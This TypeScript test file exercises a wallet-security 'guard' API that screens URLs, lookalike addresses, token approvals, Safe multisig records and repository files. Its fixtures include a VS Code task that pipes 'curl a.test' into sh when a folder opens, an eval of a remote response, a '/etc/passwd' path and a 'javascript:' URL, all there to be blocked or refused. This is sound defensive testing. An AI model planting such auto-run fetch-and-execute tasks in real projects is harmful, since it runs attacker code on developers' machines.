import { generateKeyPairSync, sign } from 'node:crypto'
import { existsSync, readFileSync } from 'node:fs'
import { resolve } from 'node:path'
import fc from 'fast-check'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { compileFeed, readList, signFeed } from '../../guard/index.ts'
import { createClient, readBytes } from '../../net/index.ts'
import { createApp } from '../createApp.ts'
import { LISTED, NOW, openSharedDesk } from '../desk.support.ts'
import { feedPlaces, replaceFile } from '../guard/FeedShelf.ts'
import { type GuardDocument, guardDocument } from '../guard/GuardDocument.ts'
import { type Listening, listen } from '../listen.ts'
import { endpoints } from './index.ts'

let shared: Awaited<ReturnType<typeof openSharedDesk>>
let server: Listening
let headers: Record<string, string> = {}
beforeAll(async () => {
  shared = await openSharedDesk()
  const key = shared.createKey(['screen'])
  headers = { Authorization: `Bearer ${key}`, 'Content-Type': 'application/json' }
  server = await listen(createApp(shared.desk, endpoints), { host: '127.0.0.1', port: 0, report: () => undefined })
})
afterAll(async () => {
  await server?.close(0)
  await shared?.close()
})

async function ask(
  check: string,
  body: unknown,
): Promise<{ status: number; answer: GuardDocument & { code?: string } }> {
  const client = createClient({ allowPrivate: [new URL(server.url).host] })
  const answer = await client.post(
    `${server.url}/v1/guard/${check}`,
    typeof body === 'string' ? body : JSON.stringify(body),
    { maxBytes: 1 << 24, headers, accepts: () => true },
  )
  const text = Buffer.from(await readBytes(answer.body)).toString('utf8')
  return { status: answer.httpStatus, answer: JSON.parse(text) as GuardDocument }
}

const DAY = 86_400
const ADDRESS = `0x${'1'.repeat(40)}`
const TWIN_OF = '0x28C6c06298d514Db089934071355E5743bf21d60'
const TWIN = '0x28c6ee0000000000000000000000000000f21d60'
const USDT = '0xdac17f958d2ee523a2206206994597c13d831ec7'
const approve = `0x095ea7b3${ADDRESS.slice(2).padStart(64, '0')}${'f'.repeat(64)}`
const safe = { safe: ADDRESS, to: USDT, value: '0', data: null, operation: 0, nonce: 4, chainId: 1, version: '1.4.1' }
const signedOften = { ...safe, signatures: `0x${'11'.repeat(65 * 101)}` }
const lure = [
  {
    path: '.vscode/tasks.json',
    text: '{"tasks":[{"command":"curl a.test | sh","runOptions":{"runOn":"folderOpen"}}]}',
  },
  { path: 'a.js', text: 'axios.get(u).catch((error) => { eval(error.response.data) })' },
]

async function putFeed(text: string, dateS: number): Promise<void> {
  const { privateKey, publicKey } = generateKeyPairSync('ed25519')
  const reading = await readList({ name: 'list', bytes: [Buffer.from(text)] }, 'text')
  const lists = [{ source: { name: 'list', dateS, expiresS: dateS + 7 * DAY }, reading }]
  const { bytes } = compileFeed(lists, { madeS: dateS, key: new Uint8Array(16) })
  const places = feedPlaces(shared.folder)
  const raw = publicKey.export({ format: 'der', type: 'spki' }).subarray(-32)
  replaceFile(places.keys, `${raw.toString('hex')}\n`)
  replaceFile(places.feed, await signFeed(bytes, (each) => sign(null, each, privateKey)))
}

describe('/v1/guard', () => {
  const questions: [check: string, body: object, kind: string, verdict: string][] = [
    ['url', { url: 'https://metamask.io.example.net/' }, 'url', 'block'],
    ['address', { address: ADDRESS }, 'address', 'no-match'],
    ['address', { address: LISTED }, 'address', 'block'],
    ['address', { address: TWIN, chain: 'ethereum', book: [{ address: TWIN_OF, name: 'mine' }] }, 'address', 'block'],
    ['transaction', { transaction: { to: USDT, data: approve, chainId: 1 } }, 'transaction', 'review'],
    ['transaction', { transaction: { to: TWIN, chainId: 1 }, book: [{ address: TWIN_OF }] }, 'transaction', 'block'],
    ['message', { text: 'I agree' }, 'message', 'no-match'],
    ['message', { text: 'I agree', origin: 'https://app.uniswap.org' }, 'message', 'no-match'],
    ['message', { text: 'I agree', origin: 'https://metamask-claim.pages.dev' }, 'message', 'block'],
    ['message', { text: 'I agree', origin: 'chrome-extension://abc' }, 'message', 'no-match'],
    ['safe', { record: safe, origin: 'https://metamask-claim.pages.dev' }, 'safe', 'block'],
    ['message', { hash: `0x${'ab'.repeat(32)}` }, 'message', 'block'],
    ['message', { authorization: { chainId: 1, address: `0x${'11'.repeat(20)}`, nonce: 7 } }, 'message', 'block'],
    ['safe', { record: safe }, 'safe', 'no-match'],
    ['safe', { record: [{ ...safe, operation: 1 }], owners: [ADDRESS], threshold: 1, nonce: 4 }, 'safe', 'block'],
    ['safe', { record: { ...safe, to: TWIN }, book: [{ address: TWIN_OF }] }, 'safe', 'block'],
    ['repository', { files: lure }, 'repository', 'block'],
  ]
  it.each(questions)('answers %s (%#)', async (check, body, kind, verdict) => {
    const { status, answer } = await ask(check, body)
    expect([status, answer.kind, answer.verdict]).toEqual([200, kind, verdict])
    expect(guardDocument.safeParse(answer).error).toBeUndefined()
  })

  it('uses the feed in the folder, says its age, and notices another one', async () => {
    const before = await ask('url', { url: 'evil.example' })
    expect(before.answer).toMatchObject({ verdict: 'hold', feed: null })
    await putFeed('evil.example\n', NOW - 3 * DAY)
    const listed = await ask('url', { url: 'evil.example' })
    expect(listed.answer).toMatchObject({ verdict: 'block', standing: 'known-bad', feed: { ageDays: 3, stale: [] } })
    expect(listed.answer).toMatchObject({ listed: { entry: 'evil.example', lists: ['list'], ageDays: null } })
    const asked = await ask('transaction', {
      transaction: { to: ADDRESS, value: '1', chainId: 1 },
      origin: 'https://evil.example',
    })
    expect(asked.answer.verdict).toBe('block')
    await putFeed('other.example\n', NOW - 9 * DAY)
    const stale = await ask('url', { url: 'evil.example' })
    expect(stale.answer).toMatchObject({ verdict: 'hold', feed: { ageDays: 9, stale: ['list'] } })
  })

  it('keeps the feed that it has when the file is damaged, and tells the operator', async () => {
    await putFeed('evil.example\n', NOW)
    expect((await ask('url', { url: 'evil.example' })).answer.verdict).toBe('block')
    replaceFile(feedPlaces(shared.folder).feed, 'LZFEED01')
    expect((await ask('url', { url: 'evil.example' })).answer.verdict).toBe('block')
    expect(shared.reports.at(-1)).toMatchObject({ code: 'LZ_GUARD_FEED_FORMAT' })
  })

  it('says that a device shows the same, of several records of that one', async () => {
    const next = { ...safe, nonce: 5 }
    const { answer } = await ask('safe', { record: [safe, next] })
    if (answer.kind !== 'safe') return expect.fail()
    const [, second] = answer.transactions
    const asked = async (record: unknown, device: unknown): Promise<string[][]> => {
      const { answer: shown } = await ask('safe', { record, device })
      if (shown.kind !== 'safe') return expect.fail()
      return shown.transactions.map(({ findings }) =>
        findings.map(({ code }) => code).filter((code) => /^DEVICE/.test(code)),
      )
    }
    const device = { safeTx: second?.hashes?.safeTx, domain: second?.hashes?.domain }
    expect(await asked([safe, next], device)).toEqual([[], ['DEVICE_SAME']])
    expect(await asked([safe, next], { safeTx: `0x${'ab'.repeat(32)}` })).toEqual([['DEVICE_OTHER'], ['DEVICE_OTHER']])
    expect(await asked({ ...safe, chainId: undefined }, device)).toEqual([['DEVICE_UNCOMPARED']])
  })

  it('says no recovery phrase again, but in files of others it may stand', async () => {
    const phrase = 'legal winner thank year wave sausage worth useful legal winner thank yellow'
    for (const [check, body] of [
      ['url', { url: phrase }],
      ['message', { text: 'I agree', from: phrase }],
      ['transaction', { transaction: { to: phrase } }],
    ] as const) {
      const { status, answer } = await ask(check, body)
      expect([status, answer.code]).toEqual([400, 'LZ_SECRET'])
      expect(JSON.stringify(answer)).not.toContain('sausage')
    }
    expect((await ask('repository', { files: [{ path: 'a.test.js', text: phrase }] })).status).toBe(200)
  })

  it('keeps no record of what was asked', async () => {
    const before = shared.decisions().length
    await ask('message', { text: 'something private' })
    expect(shared.decisions()).toHaveLength(before)
  })

  const refused: [check: string, body: unknown, status: number, code: string][] = [
    ['url', {}, 400, 'LZ_HTTP_QUESTION'],
    ['url', { url: 'x', feed: '/etc/passwd' }, 400, 'LZ_HTTP_QUESTION'],
    ['url', { url: 'javascript:alert(1)' }, 400, 'LZ_GUARD_URL'],
    ['address', { address: '0x12' }, 400, 'LZ_ADDRESS_SYNTAX'],
    ['address', { address: ADDRESS, chain: 'nowhere' }, 400, 'LZ_CHAIN_UNKNOWN'],
    ['address', { address: ADDRESS, useNode: true }, 400, 'LZ_GUARD_NODE'],
    ['transaction', { raw: '0x00' }, 400, 'LZ_GUARD_TRANSACTION'],
    ['transaction', { raw: '0x00', transaction: {} }, 400, 'LZ_HTTP_QUESTION'],
    ['transaction', { transaction: { to: 'bob' } }, 400, 'LZ_GUARD_TRANSACTION'],
    ['message', { typedData: {} }, 400, 'LZ_GUARD_TYPED_DATA'],
    ['message', { authorization: { chainId: 1 } }, 400, 'LZ_GUARD_TRANSACTION'],
    ['message', { text: 'a', from: '0x12' }, 400, 'LZ_ADDRESS_SYNTAX'],
    ['safe', { record: {} }, 400, 'LZ_GUARD_SAFE_RECORD'],
    ['safe', { record: { ...safe, operation: 7 } }, 400, 'LZ_GUARD_SAFE_FIELD'],
    ['safe', { record: Array.from({ length: 2 }, () => signedOften) }, 400, 'LZ_GUARD_LIMIT'],
    ['repository', { files: [] }, 400, 'LZ_HTTP_QUESTION'],
    ['repository', { folder: '/' }, 400, 'LZ_HTTP_QUESTION'],
    ['repository', { files: Array.from({ length: 2_001 }, () => ({ path: 'a', text: '' })) }, 400, 'LZ_HTTP_QUESTION'],
    ['repository', { files: [{ path: 'a', text: 'x'.repeat(1 << 20) }] }, 413, 'LZ_HTTP_BODY_SIZE'],
    ['message', `{"typedData":${'['.repeat(40)}${']'.repeat(40)}}`, 400, 'LZ_HTTP_BODY_DEPTH'],
  ]
  it.each(refused)('refuses %s (%#)', async (check, body, status, code) => {
    const refusal = await ask(check, body)
    expect([refusal.status, refusal.answer.code]).toEqual([status, code])
  })

  it('answers any body with a document or a problem that is the caller’s', async () => {
    const check = fc.constantFrom('url', 'address', 'transaction', 'message', 'safe', 'repository')
    const name = fc.constantFrom('url', 'address', 'raw', 'transaction', 'text', 'hash', 'typedData', 'record', 'files')
    await fc.assert(
      fc.asyncProperty(check, name, fc.jsonValue(), async (path, field, value) => {
        const { status, answer } = await ask(path, { [field]: value })
        if (status !== 200) expect([400, 422]).toContain(status)
        else expect(guardDocument.safeParse(answer).error).toBeUndefined()
      }),
      { numRuns: 200 },
    )
    expect(shared.reports.filter((report) => !(report instanceof Error && 'code' in report))).toEqual([])
  })
})

const bybit = resolve('../shared/data/signing/bybit-safe-transactions.json')
if (!existsSync(bybit)) console.warn(`SKIPPED the Safe transactions of February 2025: no ${bybit}`)

it.runIf(existsSync(bybit))('tells the Safe transactions of February 2025 apart', async () => {
  const { answer } = await ask('safe', { record: JSON.parse(readFileSync(bybit, 'utf8')) as unknown })
  if (answer.kind !== 'safe') return expect.fail()
  expect(answer.transactions.map(({ verdict }) => verdict)).toEqual([
    'block',
    'block',
    ...Array<string>(5).fill('no-match'),
  ])
})
